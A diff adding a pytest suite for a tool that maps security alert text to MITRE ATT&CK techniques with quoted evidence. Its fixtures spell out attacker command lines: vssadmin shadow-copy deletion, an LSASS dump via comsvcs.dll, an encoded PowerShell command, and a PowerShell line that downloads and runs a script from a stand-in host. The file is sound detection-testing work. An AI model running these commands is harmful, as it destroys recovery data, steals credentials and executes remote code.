@@ -1,0 +1,168 @@
+"""Pasted alerts become techniques with the words that say so, or a plain reason why not."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from knowledge.mapping import Mapper, Mapping, confirmation_evidence, detection_evidence
+from knowledge.model import Domain
+
+SHADOW = "Shadow Copies Deleted\nvssadmin.exe delete shadows /all /quiet was started by cmd.exe"
+DUMP = "Possible credential theft\nrundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full"
+
+
+def ids(mapping: Mapping) -> list[str]:
+    return [each.id for each in mapping.techniques]
+
+
+def assert_quotes_are_exact(text: str, mapping: Mapping) -> None:
+    for each in mapping.techniques:
+        assert each.evidence
+        for quote in each.evidence:
+            assert quote.quote
+            assert text[quote.start : quote.end] == quote.quote
+            assert quote.why
+
+
+@pytest.mark.parametrize(("text", "first"), [(SHADOW, "T1490"), (DUMP, "T1003.001")])
+def test_the_first_technique_is_the_one_the_words_say(mapper: Mapper, text: str, first: str) -> None:
+    mapping = mapper.map(text)
+    assert ids(mapping)[0] == first
+    assert_quotes_are_exact(text, mapping)
+
+
+def test_the_words_that_say_so_are_quoted(mapper: Mapper) -> None:
+    first = mapper.map(SHADOW).techniques[0]
+    assert "vssadmin.exe delete shadows" in {quote.quote for quote in first.evidence}
+    assert first.name == "Inhibit System Recovery"
+    assert first.tactics == ("Impact",)
+
+
+def test_confidence_never_rises_down_the_list(mapper: Mapper) -> None:
+    confidences = [each.confidence for each in mapper.map(DUMP).techniques]
+    assert confidences == sorted(confidences, reverse=True)
+    assert 0 < confidences[0] < 1
+
+
+def test_what_the_author_named_comes_first_and_says_so(mapper: Mapper) -> None:
+    text = f"{SHADOW}\nTags: T1086"
+    first = mapper.map(text).techniques[0]
+    assert (first.id, first.evidence[0].quote) == ("T1059.001", "T1086")
+    assert first.evidence[0].why == "named in the text; T1086 is T1059.001 today"
+    assert first.band == "high"
+
+
+def test_a_bare_id_is_enough(mapper: Mapper) -> None:
+    assert ids(mapper.map("T1490"))[0] == "T1490"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The wifi in the canteen is slow again, can somebody have a look?",
+        "Backup of the mail server finished, 0 errors.",
+        "Phishing awareness training is due by Friday, please book a seat.",
+        "Lunch at noon?",
+    ],
+)
+def test_everyday_text_gets_silence(mapper: Mapper, text: str) -> None:
+    mapping = mapper.map(text)
+    assert mapping.abstained
+    assert mapping.techniques == ()
+    assert mapping.reason == "Nothing in this text describes adversary behaviour."
+
+
+def test_a_list_of_indicators_is_told_so(mapper: Mapper) -> None:
+    mapping = mapper.map(
+        "IOCs\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n203.0.113.7\n203.0.113.8"
+    )
+    assert mapping.abstained
+    assert "Indicators are not techniques" in mapping.reason
+    assert "2 IP addresses and 1 SHA-256 hash" in mapping.reason
+    assert {each.kind: each.count for each in mapping.indicators} == {"IP address": 2, "SHA-256 hash": 1}
+
+
+@pytest.mark.parametrize("text", ["", "   \n", "!!! ??? ---", "\x00" * 50])
+def test_no_words_no_answer(mapper: Mapper, text: str) -> None:
+    assert mapper.map(text).reason == "There are no words in this text."
+
+
+def test_an_encoded_command_is_decoded_and_quoted_as_it_stands(mapper: Mapper) -> None:
+    run = base64.b64encode("vssadmin delete shadows /all /quiet".encode("utf-16-le")).decode()
+    text = f"Suspicious process\npowershell.exe -nop -enc {run}"
+    mapping = mapper.map(text)
+    shadow = next(each for each in mapping.techniques if each.id == "T1490")
+    assert run in {quote.quote for quote in shadow.evidence}
+    assert any("decodes to “vssadmin delete shadows" in quote.why for quote in shadow.evidence)
+    assert_quotes_are_exact(text, mapping)
+
+
+def test_a_process_tree_is_several_behaviours(mapper: Mapper) -> None:
+    text = """Process tree
+winword.exe
+  powershell.exe -nop -w hidden IEX(New-Object Net.WebClient).DownloadString('http://x/a.ps1')
+    schtasks /create /tn upd /tr c:\\a.exe /sc onlogon
+    rundll32.exe comsvcs.dll MiniDump 624 lsass.dmp full
+    vssadmin delete shadows /all"""
+    mapping = mapper.map(text)
+    assert {"T1003.001", "T1053.005", "T1059.001", "T1490"} <= set(ids(mapping))
+    assert mapping.furthest_tactic == "Impact"
+    assert [tactic for tactic, _ in mapping.chain] == ["Execution", "Credential Access", "Impact"]
+
+
+def test_the_release_is_named(mapper: Mapper) -> None:
+    assert mapper.map(SHADOW).release == "Enterprise 18.1"
+
+
+def test_an_alert_that_bears_a_rules_title_is_that_rules(mapper: Mapper) -> None:
+    plain = "ALERT: Weird Frobnicator Launch on Kiosk, host KIOSK-3"
+    assert "T1562.001" not in ids(mapper.map(plain))[:1]
+    knowing = mapper.with_detections([detection_evidence("Weird Frobnicator Launch On Kiosk", ("T1562.001",))])
+    first = knowing.map(plain).techniques[0]
+    assert first.id == "T1562.001"
+    assert first.evidence[0].quote == "Weird Frobnicator Launch on Kiosk"
+    assert first.evidence[0].why == "the title of your detection “Weird Frobnicator Launch On Kiosk”"
+    assert first.band == "high"
+
+
+def test_a_confirmation_counts_at_once_and_only_for_who_has_it(mapper: Mapper) -> None:
+    text = "Suspicious execution of the remote gateway memory process on the domain at night"
+    knowing = mapper.with_confirmations([confirmation_evidence(text, "T1566.001", "3 May 2026")])
+    first = knowing.map(text).techniques[0]
+    assert first.id == "T1566.001"
+    assert first.evidence[0].why == "like one your team confirmed on 3 May 2026"
+    assert mapper.map(text).techniques[:1] != (first,)
+
+
+def test_detections_and_confirmations_are_known_together(mapper: Mapper) -> None:
+    knowing = mapper.with_detections([detection_evidence("Weird Frobnicator Launch", ("T1562.001",))])
+    both = knowing.with_confirmations([confirmation_evidence(SHADOW, "T1003", "3 May 2026")])
+    assert ids(both.map("ALERT: Weird Frobnicator Launch"))[0] == "T1562.001"
+    assert "T1003" in ids(both.map(SHADOW))[:2]
+
+
+def test_a_detection_of_a_revoked_or_unknown_id_is_followed_or_left_out(mapper: Mapper) -> None:
+    knowing = mapper.with_detections([detection_evidence("Weird Frobnicator Launch", ("T1086", "T9999"))])
+    assert ids(knowing.map("Weird Frobnicator Launch"))[0] == "T1059.001"
+
+
+def test_a_domain_without_techniques_has_no_answer(mapper: Mapper) -> None:
+    assert mapper.map(SHADOW, Domain.ICS).techniques == ()
+
+
+def test_mobile_and_ics_answer_when_the_text_says_so(real_mapper: Mapper) -> None:
+    phone = "Android malware\nThe APK on the Android phone intercepts SMS messages and reads the contact list."
+    assert any(each.id.startswith("T16") for each in real_mapper.map(phone).techniques)
+    plant = "Modbus write to PLC\nThe engineering workstation changed PLC setpoints over Modbus from the HMI."
+    assert all(each.id.startswith("T0") for each in real_mapper.map(plant, Domain.ICS).techniques)
+    assert not any(each.id.startswith("T0") for each in real_mapper.map(SHADOW).techniques)
+
+
+def test_nothing_retired_is_ever_answered(real_mapper: Mapper) -> None:
+    text = "T1086 T1064 T1175 process injection, DLL side-loading, disabled Windows Defender, T1562"
+    for each in real_mapper.map(text).techniques:
+        found = real_mapper._catalog.get(each.id)
+        assert found is not None
+        assert not found.retired
